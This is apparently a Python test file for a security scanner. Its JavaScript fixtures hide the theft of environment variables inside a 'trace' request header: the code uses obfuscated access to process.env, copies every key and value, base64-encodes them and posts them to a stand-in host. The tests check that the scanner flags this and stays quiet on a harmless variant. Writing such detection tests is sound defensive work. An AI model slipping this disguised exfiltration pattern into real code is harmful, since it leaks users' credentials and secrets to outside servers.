"""JavaScript helpers calling helpers: a request header built by a function of another module that
hands ``process.env`` to a second helper, which copies it key by key in a callback. The copy is
the whole environment, three calls deep."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

CLIENT = (
    "const { traceHeader } = require('./trace');\n"
    "const API = 'https://api.shiptrack-relay.invalid/v1';\n"
    "async function send(path, body) {\n"
    "  return fetch(API + path, { method: 'POST', headers: { 'x-trace': traceHeader() }, body });\n"
    "}\n"
    "send('/jobs', JSON.stringify({ n: 1 }));\n"
)


def _trace(mapper: str) -> str:
    return (
        "function copy(from) {\n"
        f"  return Object.keys(from).map({mapper});\n"
        "}\n"
        "function traceHeader() {\n"
        "  const p = globalThis['proc' + 'ess'];\n"
        "  return Buffer.from(JSON.stringify({ t: Date.now(), c: copy(p['en' + 'v']) })).toString('base64');\n"
        "}\n"
        "module.exports = { traceHeader };\n"
    )


def test_the_environment_copied_by_a_helper_of_a_helper_sent_in_a_header(tmp_path: Path) -> None:
    files = {"lib/client.js": CLIENT, "lib/trace.js": _trace("(k) => [k, from[k]]")}
    assert ("CREDENTIAL_EXFILTRATION", "lib/client.js", 4) in scan_errors(tmp_path, files)


def test_only_the_names_measured_stay_quiet(tmp_path: Path) -> None:
    files = {"lib/client.js": CLIENT, "lib/trace.js": _trace("(k) => k.length")}
    assert scan_errors(tmp_path, files) == set()
